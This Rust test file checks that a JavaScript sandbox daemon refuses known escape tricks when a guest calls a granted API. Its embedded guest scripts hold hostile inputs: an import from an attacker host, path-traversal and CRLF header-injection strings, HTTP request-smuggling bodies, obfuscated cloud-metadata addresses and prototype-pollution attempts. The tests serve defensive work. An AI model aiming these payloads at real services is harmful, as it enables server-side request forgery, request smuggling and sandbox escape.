//! Faults that other sandboxes shipped, as inputs against the real daemon with a grant and a real API on this host. The
//! number before each test is that of `docs/field-cases.md`.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::daemon::{Daemon, GOOD_TOKEN, exchange};
use plimsoll_client::{Client, JavaScriptResult};
use plimsoll_core::{Limit, Tier};
use serde_json::{Value, json};

/// The API's credential, which only the daemon and the API may ever hold.
const SECRET: &str = "marker-of-the-credential-0123456789";

/// An API that writes down every request as it arrived.
struct Api {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<String>>>,
    connections: Arc<AtomicUsize>,
}

impl Api {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let api = Self {
            addr: listener.local_addr().unwrap(),
            seen: Arc::default(),
            connections: Arc::default(),
        };
        let (seen, connections) = (Arc::clone(&api.seen), Arc::clone(&api.connections));
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                connections.fetch_add(1, Ordering::Relaxed);
                let seen = Arc::clone(&seen);
                std::thread::spawn(move || serve(&stream.unwrap(), &seen));
            }
        });
        api
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }

    /// Nobody connected, so nothing can have arrived.
    fn untouched(&self) -> bool {
        self.connections.load(Ordering::Relaxed) == 0
    }
}

fn serve(stream: &TcpStream, seen: &Mutex<Vec<String>>) {
    let mut reader = BufReader::new(stream);
    loop {
        let mut head = String::new();
        while !head.ends_with("\r\n\r\n") {
            if reader.read_line(&mut head).unwrap_or(0) == 0 {
                return;
            }
        }
        let length = head.to_ascii_lowercase();
        let length = length
            .split("content-length: ")
            .nth(1)
            .and_then(|rest| rest.lines().next());
        let mut body = vec![0; length.map_or(0, |length| length.parse().unwrap())];
        reader.read_exact(&mut body).unwrap();
        let path = head.split(' ').nth(1).unwrap().to_owned();
        seen.lock()
            .unwrap()
            .push(format!("{head}{}", String::from_utf8_lossy(&body)));
        let (status, extra, answer) = match path.as_str() {
            "/echo" => ("200 OK", "", head),
            "/busy" => ("429 Too Many Requests", "Retry-After: 30\r\n", "later".to_owned()),
            "/hang" => {
                // Silent until the other side has gone.
                let _ = reader.read(&mut [0]);
                return;
            }
            _ => ("200 OK", "", "{\"ok\":true}".to_owned()),
        };
        let answer = format!(
            "HTTP/1.1 {status}\r\n{extra}Content-Type: text/plain\r\nContent-Length: {}\r\n\r\n{answer}",
            answer.len()
        );
        if (&*stream).write_all(answer.as_bytes()).is_err() {
            return;
        }
    }
}

/// A daemon with a grant of that API.
struct House {
    api: Api,
    daemon: Daemon,
    client: Client,
    _folder: tempfile::TempDir,
}

impl House {
    fn new() -> Self {
        Self::with(json!({}))
    }

    /// With these members of the profile beside the usual ones.
    fn with(more: Value) -> Self {
        let api = Api::start();
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("grants.json");
        let mut profile = json!({
            "base_url": format!("http://{}", api.addr),
            "allow": ["GET /berths/*", "PUT /berths/*", "GET /echo", "GET /busy", "GET /hang"],
            "allowed_callers": ["static"],
            "token": { "type": "static", "env": "PORT_API_TOKEN" },
        });
        let Value::Object(more) = more else { panic!("members") };
        profile.as_object_mut().unwrap().extend(more);
        fs_err::write(&file, json!({ "profiles": { "port": profile } }).to_string()).unwrap();
        let daemon = Daemon::start(&[
            ("SANDBOX_PROVIDER", "wasm"),
            ("PLIMSOLL_TOKEN", GOOD_TOKEN),
            ("PLIMSOLL_GRANTS_FILE", file.to_str().unwrap()),
            ("PORT_API_TOKEN", SECRET),
            ("SANDBOX_RATE_PER_MIN", "0"),
            ("SANDBOX_PER_KEY_CONCURRENT", "0"),
        ]);
        let client = Client::builder(format!("http://{}", daemon.addr))
            .token(GOOD_TOKEN)
            .build()
            .unwrap();
        Self {
            api,
            daemon,
            client,
            _folder: folder,
        }
    }

    async fn run(&self, code: impl Into<String>) -> JavaScriptResult {
        self.run_for(Duration::from_secs(20), code).await
    }

    async fn run_for(&self, timeout: Duration, code: impl Into<String>) -> JavaScriptResult {
        let run = self.client.run_javascript(code).floor(Tier::Process).timeout(timeout);
        run.grant_profile("port").send().await.unwrap()
    }

    fn metrics(&self) -> String {
        exchange(self.daemon.metrics_addr.unwrap(), "GET /metrics HTTP/1.1", "").2
    }

    /// Stops the daemon and returns its log.
    fn log(self) -> Vec<Value> {
        self.daemon.signal(rustix::process::Signal::TERM);
        self.daemon.wait().1
    }
}

fn limit(result: &JavaScriptResult) -> Option<Limit> {
    result.evidence.diagnostics.unwrap().limit_hit
}

/// The audit lines of a log.
fn audit(log: &[Value]) -> Vec<&Value> {
    log.iter().filter(|record| record["msg"] == "code run").collect()
}

#[tokio::test]
async fn case_85_a_run_without_a_grant_reaches_no_network_and_no_resolver() {
    let house = House::new();
    let code = r#"
        console.log(typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof EventSource, typeof host);
        for (const name of ["net", "dns", "dns/promises", "http", "https", "http2", "tls", "dgram"])
            try { require(name); console.log("REQUIRED", name); } catch (error) { console.log(error.code); }
        await import("http://data.attacker.example/").then(() => console.log("IMPORTED"), () => console.log("rejected"));
        const answer = __plimsoll_host_call(JSON.stringify({ method: "GET", path: "/berths/data.attacker.example" }));
        console.log(answer.status, answer.body.trim());
    "#;
    let result = house
        .client
        .run_javascript(code)
        .floor(Tier::Process)
        .send()
        .await
        .unwrap();
    let text = result.stdout_text().into_owned();
    let refused = "MODULE_NOT_FOUND\n".repeat(8);
    assert_eq!(
        text,
        format!(
            "undefined undefined undefined undefined undefined\n{refused}rejected\n\
             503 no grant: this run may call no API; run it with a grant to allow calls\n"
        ),
        "{}",
        result.stderr_text()
    );
    assert!(house.api.untouched());
}

#[tokio::test]
async fn case_88_and_89_only_the_one_spelling_of_an_allowed_target_reaches_the_api() {
    let house = House::new();
    let code = r#"
        const call = (method, path, body) =>
            __plimsoll_host_call(JSON.stringify({ method, path, ...(body === undefined ? {} : { body }) })).status;
        const paths = ["/berths/../admin", "/berths/%2e%2e", "/berths/;x", "/berths/..;", "//berths/1", "/berths//1", "/berths/1/",
            "/berths/.", "/berths/..", "/berths/...", "/berths/1%2F2", "/berths/1?a=1", "/berths/1?", "/berths/1#f", "/berths/1\\2",
            "/berths/1 HTTP/1.1\r\nHost: evil\r\n\r\nGET /admin", "/berths/1\n", "/berths/\u0000", "/berths/caf\u00e9", "/berths/*",
            "/berths/1:cancel", "/BERTHS/1", "http://evil.example/berths/1", "//evil.example/berths/1", "evil.example:443", "*", "",
            "berths/1", "/berths", "/admin", "/" + "x".repeat(9000)];
        const methods = ["CONNECT", "OPTIONS", "TRACE", "HEAD", "PRI", "get ", " GET", "GET /admin", "G\u00c9T", "",
            "GET\r\nUpgrade: h2c", "GET / HTTP/1.1\r\nTransfer-Encoding: chunked"];
        console.log(JSON.stringify([...new Set(paths.map((path) => call("GET", path)))]));
        console.log(JSON.stringify([...new Set(methods.map((method) => call(method, "/berths/1")))]));
    "#;
    let result = house.run(code).await;
    assert_eq!(result.stdout_text(), "[403]\n[403]\n", "{}", result.stderr_text());
    assert!(house.api.untouched());

    let smuggled = r#"
        const body = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n";
        console.log((await host.put("/berths/1", body)).ok, (await host.get("/berths/2")).ok);
    "#;
    let result = house.run(smuggled).await;
    assert_eq!(result.stdout_text(), "true true\n", "{}", result.stderr_text());
    let seen = house.api.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert!(seen[0].starts_with("PUT /berths/1 HTTP/1.1\r\n"), "{seen:?}");
    assert!(seen[1].starts_with("GET /berths/2 HTTP/1.1\r\n"), "{seen:?}");
    for name in ["upgrade:", "transfer-encoding:", "connection:", "expect:", "cookie:"] {
        assert!(
            !seen.iter().any(|head| head.to_ascii_lowercase().contains(name)),
            "{name} {seen:?}"
        );
    }
}

#[tokio::test]
async fn case_91_an_api_that_echoes_the_credential_does_not_hand_it_over() {
    let house = House::new();
    let result = house
        .run("await host.get('/echo').catch((error) => console.log(error.status, error.message, error.stack))")
        .await;
    let text = result.stdout_text().into_owned();
    assert!(
        text.starts_with("502 host api 502: answer refused: it repeats the credential"),
        "{text}"
    );
    assert!(
        house.api.seen()[0].contains(&format!("Bearer {SECRET}")),
        "the API did get it"
    );
    assert!(!text.contains(SECRET) && !text.contains("Bearer"), "{text}");
}

#[test]
fn case_92_a_metadata_address_or_an_odd_literal_stops_the_start() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("grants.json");
    for host in [
        "169.254.169.254",
        "100.100.100.200",
        "168.63.129.16",
        "[fd00:ec2::254]",
        "[::ffff:169.254.169.254]",
        "2852039166",
        "0xa9fea9fe",
        "0251.0376.0251.0376",
        "169.254.43518",
    ] {
        let profile = json!({ "base_url": format!("https://{host}"), "allowed_callers": ["static"] });
        fs_err::write(&file, json!({ "profiles": { "port": profile } }).to_string()).unwrap();
        let values = [
            ("SANDBOX_PROVIDER", "wasm"),
            ("PLIMSOLL_TOKEN", GOOD_TOKEN),
            ("PLIMSOLL_GRANTS_FILE", file.to_str().unwrap()),
        ];
        let run = crate::daemon::run(&["check"], &values);
        assert_eq!(run.code, Some(1), "{host}");
        for word in ["PLIMSOLL_GRANTS_FILE", "port", "base_url"] {
            assert!(run.stderr.contains(word), "{host}: no {word} in {}", run.stderr);
        }
    }
}

#[tokio::test]
async fn case_97_nothing_that_a_guest_sends_or_an_api_is_shown_is_in_log_or_metrics() {
    let house = House::new();
    let code = r#"
        await host.put("/berths/marker-in-path", { note: "marker-in-body" });
        await host.get("/echo").catch(() => {});
        const raw = (method, path) => __plimsoll_host_call(JSON.stringify({ method, path }));
        raw("GET", "/marker-in-refused-path?marker-in-query");
        raw("marker-in-method", "/berths/1");
        console.log("done");
    "#;
    assert_eq!(house.run(code).await.stdout_text(), "done\n");
    let metrics = house.metrics();
    assert!(
        metrics.contains(r#"plimsoll_host_calls_total{profile="port",method="PUT",route="/berths/*"} 1"#),
        "{metrics}"
    );
    assert!(
        metrics.contains(r#"plimsoll_host_calls_refused_total{profile="port",kind="denied"} 2"#),
        "{metrics}"
    );
    let log = house.log();
    let line = audit(&log)[0];
    assert_eq!(
        (&line["host_calls"], &line["host_calls_denied"]),
        (&json!(2), &json!(2)),
        "{line}"
    );
    for page in [metrics, format!("{log:?}")] {
        assert!(!page.contains("marker-"), "{page}");
    }
}

#[tokio::test]
async fn case_100_every_refusal_of_a_call_says_reason_rule_and_remedy() {
    let house = House::with(json!({ "max_calls": 8, "route_max_calls": { "PUT /berths/*": 1 } }));
    let code = r#"
        const raw = (method, path, body) => {
            const answer = __plimsoll_host_call(JSON.stringify({ method, path, body }));
            console.log(answer.status, answer.body.trim());
        };
        raw("GET", "/admin");
        raw("PUT", "/berths/1", "x".repeat(1 << 21));
        raw("PUT", "/berths/1", "x".repeat(1 << 20));
        raw(["GET"], "/berths/1");
        raw("PUT", "/berths/1", 1);
        raw("GET", "/busy");
        raw("GET", "/berths/1");
        for (let calls = 5; calls < 8; calls++) __plimsoll_host_call(JSON.stringify({ method: "GET", path: "/admin" }));
        raw("GET", "/berths/1");
    "#;
    let began = Instant::now();
    let result = house.run(code).await;
    assert!(began.elapsed() < Duration::from_secs(5), "never a hang");
    let text = result.stdout_text().into_owned();
    let lines: Vec<&str> = text.lines().collect();
    let statuses: Vec<&str> = lines.iter().filter_map(|line| line.split(' ').next()).collect();
    assert_eq!(
        statuses,
        ["403", "413", "413", "400", "429", "429", "503", "429"],
        "{text}{}",
        result.stderr_text()
    );
    for (line, reason) in [
        (0, "route not permitted"),
        (1, "request refused"),
        (2, "request body refused"),
        (3, "request refused"),
        (4, "route cap used up"),
        (6, "API paused"),
        (7, "call budget used up"),
    ] {
        let (said, rest) = lines[line][4..].split_once(": ").unwrap();
        let (rule, remedy) = rest.split_once("; ").unwrap();
        assert_eq!(said, reason, "{text}");
        assert!(!rule.is_empty() && !remedy.is_empty(), "{text}");
    }
    assert_eq!(lines[5], "429 later", "the API's own answer is handed on as it is");
    assert_eq!(limit(&result), Some(Limit::HostCalls));
    assert_eq!(house.api.seen().len(), 1);
}

#[tokio::test]
async fn case_103_a_tight_loop_of_refused_calls_is_bounded_and_its_deadline_holds() {
    let house = House::new();
    let through_client = r#"for (;;) { try { await host.get("/forbidden") } catch (error) {} }"#;
    let around_client =
        r#"const call = JSON.stringify({ method: "GET", path: "/forbidden" }); for (;;) __plimsoll_host_call(call);"#;
    for (code, reason) in [(through_client, None), (around_client, Some(Limit::HostCalls))] {
        let began = Instant::now();
        let loop_run = house.run_for(Duration::from_secs(1), code);
        let neighbour = async {
            tokio::time::sleep(Duration::from_millis(200)).await;
            let began = Instant::now();
            let result = house.run("console.log((await host.get('/berths/1')).ok)").await;
            assert_eq!(result.stdout_text(), "true\n");
            began.elapsed()
        };
        let (result, beside) = tokio::join!(loop_run, neighbour);
        assert!(
            (1.0..2.5).contains(&began.elapsed().as_secs_f64()),
            "{:?}",
            began.elapsed()
        );
        assert_eq!(
            (result.exit_code, result.timed_out, limit(&result)),
            (124, true, reason)
        );
        assert!(beside < Duration::from_millis(700), "a neighbour took {beside:?}");
    }
    let seen = house.api.seen();
    assert!(
        seen.iter().all(|request| request.starts_with("GET /berths/1 ")),
        "{seen:?}"
    );
    let log = house.log();
    let lines = audit(&log);
    let denied = |line: &Value| line["host_calls_denied"].as_u64();
    let loops: Vec<&&Value> = lines.iter().filter(|line| line["exit_code"] == 124).collect();
    assert_eq!(denied(loops[0]), None, "the client refuses by itself: {}", loops[0]);
    assert!(denied(loops[1]).is_some_and(|denied| denied > 256), "{}", loops[1]);
    assert_eq!(loops[1]["host_calls"], 0, "a refused call has no row");
}

#[tokio::test]
async fn case_103_rows_are_bounded_and_host_time_counts_towards_the_deadline() {
    let house = House::with(json!({ "max_calls": 300 }));
    let code = r#"
        let good = 0;
        for (let n = 0; n < 310; n++) await host.get(`/berths/${n}`).then(() => good++, (error) => console.log(error.status));
        console.log(good);
    "#;
    let result = house.run(code).await;
    assert_eq!(
        result.stdout_text(),
        format!("{}300\n", "429\n".repeat(10)),
        "{}",
        result.stderr_text()
    );
    assert_eq!(limit(&result), Some(Limit::HostCalls));

    let began = Instant::now();
    let result = house.run_for(Duration::from_secs(1), "await host.get('/hang')").await;
    assert!(
        (1.0..2.5).contains(&began.elapsed().as_secs_f64()),
        "{:?}",
        began.elapsed()
    );
    assert_eq!((result.exit_code, result.timed_out), (124, true));
    assert_eq!(house.api.seen().len(), 301);
    let log = house.log();
    let lines = audit(&log);
    let kept = ["host_calls", "host_calls_dropped", "host_calls_denied"].map(|key| lines[0][key].as_u64());
    assert_eq!(kept, [Some(256), Some(44), Some(10)], "{}", lines[0]);
    assert_eq!(
        lines[1]["host_calls"], 1,
        "a call that was cut short is in the trace: {}",
        lines[1]
    );
}

#[tokio::test]
async fn case_104_a_polluted_client_gains_nothing_because_the_broker_trusts_nothing_of_the_guest() {
    let house = House::new();
    let code = r#"
        const say = (promise) => promise.then((value) => console.log("ALLOWED", value), (error) => console.log(error.message.trim()));
        console.log(host.get.constructor("return this")() === globalThis);
        for (const name of ["allow", "hostCall", "isPermitted", "client"])
            try { host.get.constructor(`return ${name}`)(); console.log("REACHED", name); } catch (error) { console.log(error.name); }
        await say(host.get("/admin"));
        Array.prototype.some = Array.prototype.every = () => true;
        RegExp.prototype.test = () => true;
        String.prototype.split = () => ["x"];
        Object.prototype.p = "/admin";
        Object.prototype.m = "GET";
        await say(host.get("/admin"));
        await say(host.get("/berths/1/../../admin"));
        await say(host.call('GET","path":"/berths/1","x":"', "/admin"));
        await say(host.call("GET", '/berths/1","method":"DELETE'));
        __plimsoll_host_call.call = __plimsoll_host_call.apply = () => ({ status: 200, body: "{}" });
        Object.prototype.toJSON = () => ({ method: "GET", path: "/berths/1" });
        console.log(__plimsoll_host_call('{"method":"GET","path":"/admin","__proto__":{"path":"/berths/1"}}').status);
    "#;
    let result = house.run(code).await;
    let lines: Vec<String> = result
        .stdout_text()
        .lines()
        .map(|line| line.chars().take(40).collect())
        .collect();
    assert_eq!(
        lines,
        [
            "true",
            "ReferenceError",
            "ReferenceError",
            "ReferenceError",
            "ReferenceError",
            "host api call not permitted: GET /admin",
            "host api 403: route not permitted: metho",
            "host api 403: route not permitted: metho",
            "host api 400: request refused: it must b",
            "host api 400: request refused: it must b",
            "400",
        ],
        "{}",
        result.stderr_text()
    );
    assert!(house.api.untouched());
    let clean = house.run("console.log((await host.get('/berths/1')).ok)").await;
    assert_eq!(clean.stdout_text(), "true\n", "{}", clean.stderr_text());
}
